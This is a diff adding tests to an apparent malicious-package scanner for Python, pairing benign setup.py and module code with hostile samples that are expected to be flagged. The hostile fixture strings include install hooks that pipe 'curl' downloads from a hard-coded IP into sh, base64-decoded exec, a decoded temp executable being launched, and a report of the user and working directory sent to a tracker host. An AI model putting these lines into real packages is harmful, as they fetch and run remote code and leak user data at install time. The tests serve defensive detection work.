@@ -1006,3 +1006,254 @@ def test_hostile_archives_kept_as_test_fixtures_do_not_flag_the_package(tmp_path
     assert {"archive.path-traversal", "archive.absolute-path"} <= rules(result)
     assert result.verdict not in FLAGGED
     assert not result.package_code
+
+
+# -- setup.py code that installing never runs ----------------------------------------------------
+
+
+def test_a_setup_py_function_nothing_calls_is_not_install_time() -> None:
+    src = """
+        import requests
+        from setuptools import setup
+
+        def show_licences(names):
+            for name in names:
+                r = requests.get("https://example.org/pkg/{}/json".format(name))
+                print(r.json().get("licence"))
+
+        # show_licences(["a"])
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+    assert "capability.network" in rules(result)  # still reported, as code run on request
+
+
+def test_a_setup_py_function_called_at_module_level_or_by_name_lookup_still_runs() -> None:
+    called = """
+        import requests
+        from setuptools import setup
+
+        def ping():
+            requests.get("http://198.51.100.7/ping")
+
+        ping()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": called}).verdict in FLAGGED
+    looked_up = """
+        import requests
+        from setuptools import setup
+
+        def ping():
+            requests.get("http://198.51.100.7/ping")
+
+        globals()["pi" + "ng"]()
+        setup(name="demo")
+    """
+    assert scan({"setup.py": looked_up}).verdict in FLAGGED
+
+
+def test_a_cmdclass_registered_only_as_upload_is_not_install_time() -> None:
+    src = """
+        import os
+        from setuptools import Command, setup
+
+        class Publish(Command):
+            user_options = []
+            def initialize_options(self): pass
+            def finalize_options(self): pass
+            def run(self):
+                os.system("twine upload dist/*")
+                os.system("git push --tags")
+
+        setup(name="demo", cmdclass={"upload": Publish})
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_cmdclass_registered_as_build_still_runs_at_install() -> None:
+    src = """
+        import os
+        from setuptools import Command, setup
+
+        class Fetch(Command):
+            user_options = []
+            def initialize_options(self): pass
+            def finalize_options(self): pass
+            def run(self):
+                os.system("curl -s http://198.51.100.7/x | sh")
+
+        setup(name="demo", cmdclass={"upload": Fetch, "build_ext": Fetch})
+    """
+    assert scan({"setup.py": src}).verdict == "malicious"
+
+
+def test_running_a_projects_configure_script_through_sh_is_a_build_step() -> None:
+    src = """
+        import os
+        from setuptools import setup
+        if os.system("sh configure -q") != 0:
+            raise RuntimeError("configure failed")
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_a_shell_line_that_only_mentions_configure_is_not_a_build_step() -> None:
+    src = """
+        import os
+        from setuptools import setup
+        os.system("sh -c 'curl -s http://198.51.100.7/configure | sh'")
+        setup(name="demo")
+    """
+    assert scan({"setup.py": src}).verdict in FLAGGED
+
+
+def test_literal_code_compiled_and_run_is_not_hidden_code() -> None:
+    src = """
+        import sys
+        if sys.version_info[0] < 3:
+            exec(compile("def _reraise(*a): raise a[0], a[1], a[2]", "<compat>", "exec"))
+    """
+    setup = 'from setuptools import setup\nimport demo\nsetup(name="demo")\n'
+    result = scan({"setup.py": setup, "demo.py": src})
+    assert result.verdict not in FLAGGED, worst(result)
+
+
+def test_decoded_code_compiled_and_run_stays_hidden_code() -> None:
+    src = """
+        import base64
+        exec(compile(base64.b64decode("cHJpbnQoImhpIik="), "<x>", "exec"))
+    """
+    setup = 'from setuptools import setup\nimport demo\nsetup(name="demo")\n'
+    assert scan({"setup.py": setup, "demo.py": src}).verdict in FLAGGED
+
+
+# -- builtins looked up from a written-out list of names -----------------------------------------
+
+
+def test_builtins_looked_up_from_a_written_out_name_list_are_not_hidden() -> None:
+    src = """
+        import builtins
+        _ALLOWED = frozenset({"len", "min", "max", "sorted"})
+        SAFE = {n: getattr(builtins, n) for n in _ALLOWED}
+        for name in ("abs", "round"):
+            SAFE[name] = getattr(builtins, name)
+    """
+    result = scan({"demo/__init__.py": src})
+    assert "obfuscation.builtins-lookup" not in rules(result), result.findings
+    assert result.verdict not in FLAGGED
+
+
+def test_builtins_looked_up_by_a_name_read_at_run_time_stay_hidden() -> None:
+    decoded = """
+        import builtins
+        names = [open("names.txt").read().strip()]
+        for n in names:
+            getattr(builtins, n)("print(1)")
+    """
+    assert "obfuscation.builtins-lookup" in rules(scan({"demo/__init__.py": decoded}), "high")
+    rebound = """
+        import builtins
+        for n in ("len",):
+            pass
+        n = open("names.txt").read().strip()
+        getattr(builtins, n)("print(1)")
+    """
+    assert "obfuscation.builtins-lookup" in rules(scan({"demo/__init__.py": rebound}), "high")
+
+
+# -- serialised records of decoded values ---------------------------------------------------------
+
+
+def test_a_pickled_record_holding_a_decrypted_key_is_not_a_dropped_payload() -> None:
+    src = """
+        import base64, os, pickle, subprocess, sys, tempfile
+
+        def run_job(settings, key_file):
+            with open(key_file) as k:
+                key = base64.b64decode(k.read()).decode()
+            record = (settings, key)
+            fd, path = tempfile.mkstemp()
+            with os.fdopen(fd, "wb") as f:
+                f.write(pickle.dumps(record))
+            subprocess.check_call([sys.executable, "-m", "demo.worker", path])
+    """
+    result = scan({"demo/runner.py": src})
+    assert "intent.drop-payload" not in rules(result, "high"), result.findings
+    assert result.verdict not in FLAGGED
+
+
+def test_decoded_bytes_written_raw_and_run_stay_a_dropped_payload() -> None:
+    src = """
+        import base64, os, subprocess, tempfile
+
+        def run_job(blob):
+            data = base64.b64decode(open(blob).read())
+            fd, path = tempfile.mkstemp(suffix=".exe")
+            with os.fdopen(fd, "wb") as f:
+                f.write(data)
+            subprocess.Popen([path])
+    """
+    result = scan({"demo/runner.py": src})
+    assert "intent.drop-payload" in rules(result, "high"), result.findings
+
+
+def test_literal_code_spelt_in_escapes_compiled_and_run_at_install_stays_hidden() -> None:
+    escaped = "".join(f"\\x{ord(c):02x}" for c in "import sys; print(1)")
+    src = f"""
+        from setuptools import setup
+        exec(compile("{escaped}", "<s>", "exec"))
+        setup(name="demo")
+    """
+    result = scan({"setup.py": src})
+    assert any(
+        f.rule == "capability.dynamic-code" and f.severity == "high" for f in result.findings
+    )
+
+
+# -- a file opened at a path built from the working directory -----------------------------------
+
+
+def test_uploading_a_file_found_under_the_working_directory_is_not_sending_identity() -> None:
+    paths = """
+        import os
+
+        def inside_cwd(path):
+            base = os.getcwd()
+            full = os.path.realpath(os.path.join(base, path))
+            if not full.startswith(base):
+                raise ValueError("outside")
+            return full
+    """
+    client = """
+        import requests
+        from .paths import inside_cwd
+
+        def upload(path, token):
+            path = inside_cwd(path)
+            with open(path, "rb") as fp:
+                return requests.post(
+                    "https://api.docs-parser.io/v1/parse",
+                    headers={"authorization": "Bearer " + token},
+                    files={"file": fp},
+                )
+    """
+    result = scan({"demo/__init__.py": "", "demo/paths.py": paths, "demo/client.py": client})
+    assert "intent.exfiltration" not in rules(result, "high"), result.findings
+    assert result.verdict not in FLAGGED
+
+
+def test_sending_the_working_directory_and_user_to_a_fixed_host_stays_flagged() -> None:
+    src = """
+        import getpass, os, requests
+
+        def report():
+            info = {"cwd": os.getcwd(), "user": getpass.getuser()}
+            requests.post("https://collector.example-tracker.net/r", json=info)
+    """
+    result = scan({"demo/__init__.py": "", "demo/report.py": src})
+    assert "intent.exfiltration" in rules(result, "high"), result.findings
